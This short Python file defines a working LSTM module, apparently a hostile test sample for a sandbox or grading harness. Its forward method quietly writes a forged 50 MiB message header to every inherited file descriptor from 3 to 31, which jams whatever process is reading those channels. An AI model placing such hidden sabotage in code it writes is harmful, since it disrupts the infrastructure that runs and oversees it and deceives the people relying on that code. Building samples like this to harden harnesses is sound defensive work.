"""Announces a message of 50 MiB that never comes."""

import os
import struct

import torch
from torch import nn


class LSTM(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        for name, *more in ("weight_ih", input_size), ("weight_hh", hidden_size), ("bias_ih",), ("bias_hh",):
            self.register_parameter(f"{name}_l0", nn.Parameter(torch.empty(4 * hidden_size, *more)))

    def forward(self, x, state=None):
        for number in range(3, 32):
            try:
                os.write(number, struct.pack(">II", 2, 50 * 2**20))
            except OSError:
                continue
        h, c = state or (x.new_zeros(1, *x.shape[1:-1], self.weight_hh_l0.shape[1]),) * 2
        rows = []
        for row in x:
            gates = row @ self.weight_ih_l0.T + h @ self.weight_hh_l0.T + self.bias_ih_l0 + self.bias_hh_l0
            i, f, g, o = gates.chunk(4, -1)
            c = f.sigmoid() * c + i.sigmoid() * g.tanh()
            h = o.sigmoid() * c.tanh()
            rows.append(h[0])
        return torch.stack(rows), (h, c)
